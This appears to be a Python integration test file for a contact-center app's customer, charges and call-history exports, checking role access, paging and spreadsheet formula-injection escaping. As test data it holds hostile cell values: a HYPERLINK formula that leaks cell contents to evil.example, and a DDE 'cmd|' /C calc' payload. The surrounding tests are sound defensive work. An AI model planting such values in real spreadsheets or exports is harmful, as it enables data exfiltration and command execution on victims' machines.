"""Customer and charges exports over HTTP: streaming, roles, progress header, hostile names."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from contact_center.bus.memory import MemoryBus
from contact_center.calls import events as ev
from contact_center.exports import http as exports_http
from contact_center.exports.csvsafe import safe_cell
from contact_center.history import http as history_http
from contact_center.history.writer import HistoryWriter
from contact_center.store.models import Charge, Customer
from tests.integration.web_support import add_customer, add_user, database, sign_in, web_server

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def parse_csv(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


def no_formula_cells(body: str) -> bool:
    """True when no cell would run as a formula (plain numbers such as +7… are allowed)."""
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    return all(safe_cell(c) == c for c in cells)


async def add_charge(
    sessions: async_sessionmaker[AsyncSession], customer_id: int, linkedid: str, amount: str
) -> None:
    started = datetime(2026, 3, 3, 11, 0, tzinfo=UTC)
    async with sessions.begin() as db:
        db.add(Charge(server="pbx1", call_linkedid=linkedid, customer_id=customer_id,
                      plan="inbound", prefix="7", number="+74951234567", billed_seconds=120,
                      amount=Decimal(amount), currency="RUB", breakdown={}, rated_at=started,
                      call_started_at=started))  # fmt: skip


async def test_customer_export_csv_and_json(db_url: str) -> None:
    async with database(db_url) as (_engine, sessions):
        hostile = await add_customer(
            sessions, HOSTILE, ["+74951234567", "+74957654321"], company="@SUM(1+1)",
            notes="-2+3", segment="VIP",
        )  # fmt: skip
        async with sessions.begin() as db:
            await db.execute(
                update(Customer).where(Customer.id == hostile).values(custom={"note": "=1+1"})
            )
        for i in range(3):
            await add_customer(sessions, f"Customer {i}", [f"+7495000000{i}"], segment="retail")
        await add_user(sessions, "sue", "supervisor")
        await add_user(sessions, "alice", "operator")
        async with web_server(sessions, MemoryBus(), plugins=[exports_http]) as server:
            sue, alice = await sign_in(server, "sue"), await sign_in(server, "alice")
            try:
                async with alice.http.get(alice.url("/api/exports/customers.csv")) as resp:
                    assert 403 == resp.status
                async with sue.http.get(sue.url("/api/exports/customers.csv")) as resp:
                    body = await resp.text()
                    headers = resp.headers
                rows = parse_csv(body)
                assert ("4", 4) == (headers["X-Total-Rows"], len(rows))
                assert 'attachment; filename="customers.csv"' == headers["Content-Disposition"]
                first = rows[0]
                assert (str(hostile), "'" + HOSTILE, "'@SUM(1+1)", "'-2+3") == (
                    first["id"], first["name"], first["company"], first["notes"],
                )  # fmt: skip
                # Phones stay plain numbers: usable, and no formula can hide in one.
                assert "+74951234567 +74957654321" == first["phones"]
                assert no_formula_cells(body)
                assert "pin_hash" not in body

                async with sue.http.get(sue.url("/api/exports/customers.json?segment=VIP")) as resp:
                    assert "1" == resp.headers["X-Total-Rows"]
                    items = json.loads(await resp.text())
                assert [(HOSTILE, ["+74951234567", "+74957654321"], {"note": "=1+1"})] == [
                    (c["name"], c["phones"], c["custom"]) for c in items
                ]
            finally:
                await sue.close()
                await alice.close()


async def test_customer_export_xlsx_keeps_hostile_text_as_text(sqlite_url: str) -> None:
    async with database(sqlite_url) as (_engine, sessions):
        hostile = await add_customer(
            sessions, HOSTILE, ["+74951234567"], company="@SUM(1+1)", external_id="crm-1"
        )
        await add_customer(sessions, "Пётр", ["+74950000001"])
        await add_customer(sessions, "Bell\x07 Ltd", ["+74950000002"])  # illegal in a sheet
        await add_user(sessions, "sue", "supervisor")
        async with web_server(sessions, MemoryBus(), plugins=[exports_http]) as server:
            sue = await sign_in(server, "sue")
            try:
                async with sue.http.get(sue.url("/api/exports/customers.xlsx")) as resp:
                    body = await resp.read()
                    headers = resp.headers
            finally:
                await sue.close()
    book = load_workbook(io.BytesIO(body))
    sheet = book.worksheets[0]
    header, *rows = [[c.value for c in row] for row in sheet.iter_rows()]
    first = dict(zip(header, rows[0], strict=True))

    assert ("3", 'attachment; filename="customers.xlsx"') == (
        headers["X-Total-Rows"],
        headers["Content-Disposition"],
    )
    assert (hostile, "crm-1", HOSTILE, "@SUM(1+1)", "+74951234567") == (
        first["id"], first["external_id"], first["name"], first["company"], first["phones"],
    )  # fmt: skip
    # stored as text: no cell of the sheet is a formula
    assert {"s", "n"} >= {c.data_type for row in sheet.iter_rows() for c in row if c.value}
    assert ["Пётр", "Bell Ltd"] == [r[header.index("name")] for r in rows[1:]]
    assert "pin_hash" not in header


async def test_customer_export_pages_through_many(sqlite_url: str) -> None:
    from contact_center.exports.customers import customer_rows

    async with database(sqlite_url) as (_engine, sessions):
        for i in range(7):
            await add_customer(sessions, f"C{i}", [f"+7495111000{i}"])
        rows = [r async for r in customer_rows(sessions, page_size=3)]
    assert [f"C{i}" for i in range(7)] == [r["name"] for r in rows]
    assert [[f"+7495111000{i}"] for i in range(7)] == [r["phones"] for r in rows]


async def test_charges_report_export_with_hostile_customer(db_url: str) -> None:
    async with database(db_url) as (_engine, sessions):
        hostile = await add_customer(sessions, "+1+cmd|' /C calc'!A0", ["+74951234567"])
        plain = await add_customer(sessions, "Olga", ["+74957777777"])
        await add_charge(sessions, hostile, "1.1", "12.50")
        await add_charge(sessions, hostile, "1.2", "2.25")
        await add_charge(sessions, plain, "2.1", "1.00")
        await add_user(sessions, "root", "admin")
        async with web_server(sessions, MemoryBus(), plugins=[exports_http]) as server:
            root = await sign_in(server, "root")
            try:
                query = "?group_by=customer&since=2026-03-01&until=2026-03-31"
                async with root.http.get(root.url("/api/exports/charges.csv" + query)) as resp:
                    body = await resp.text()
                    total = resp.headers["X-Total-Rows"]
                rows = parse_csv(body)
                assert "2" == total
                assert [("'+1+cmd|' /C calc'!A0", "2", "14.750000"), ("Olga", "1", "1.000000")] == [
                    (r["label"], r["calls"], r["amount"]) for r in rows
                ]
                assert no_formula_cells(body)
                async with root.http.get(root.url("/api/exports/charges.json" + query)) as resp:
                    items = await resp.json(content_type=None)
                assert ["14.750000", "1.000000"] == [i["amount"] for i in items]
                async with root.http.get(
                    root.url("/api/exports/charges.csv?group_by=nope")
                ) as resp:
                    assert 400 == resp.status
                async with root.http.get(
                    root.url("/api/exports/charges.csv?since=yesterday")
                ) as resp:
                    assert 400 == resp.status
            finally:
                await root.close()


async def test_exports_page_links_history_and_hostile_caller_in_history_csv(
    sqlite_url: str, tmp_path: Path
) -> None:
    async with database(sqlite_url) as (_engine, sessions):
        # An admin: the call never reached a queue, so it is in no supervisor's scope.
        await add_user(sessions, "sue", "admin")
        writer = HistoryWriter(sessions, spill_dir=tmp_path / "spill")
        await writer.handle(ev.CallArrived(
            server="pbx1", call_id="3.1", at=1_772_535_600.0, key="arrived-3.1",
            caller_number="+74951234567", caller_number_raw="84951234567",
            caller_name=HOSTILE, did="8800",
        ))  # fmt: skip
        await writer.flush()
        plugins = [exports_http, history_http]
        async with web_server(sessions, MemoryBus(), plugins=plugins) as server:
            sue = await sign_in(server, "sue")
            try:
                async with sue.http.get(
                    sue.url("/exports"), headers={"Accept": "text/html"}
                ) as resp:
                    page = await resp.text()
                for link in ("/api/exports/customers.csv", "/api/history/export.csv",
                             "/api/exports/charges.csv?group_by=day"):  # fmt: skip
                    assert f'href="{link}"' in page
                async with sue.http.get(sue.url("/api/history/export.csv")) as resp:
                    body = await resp.text()
                assert HOSTILE.replace('"', '""') in body  # the name is there, quoted …
                assert no_formula_cells(body)  # … but never at the start of a cell
            finally:
                await sue.close()


def test_safe_cell() -> None:
    cases = ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "+74951234567", "-12.50", "Ivan", ""]
    assert ["'=1+1", "'+A1", "'-A1", "'@SUM(A1)", "'\t=1", "'\r=1", "+74951234567", "-12.50",
            "Ivan", ""] == [safe_cell(c) for c in cases]  # fmt: skip


def test_safe_cell_phone_lists() -> None:
    cases = ["+74951234567 +74957654321", "+7495 =1+1", "+7495 cmd", "1+1", "a=1"]
    expected = ["+74951234567 +74957654321", "'+7495 =1+1", "'+7495 cmd", "1+1", "a=1"]
    assert expected == [safe_cell(c) for c in cases]
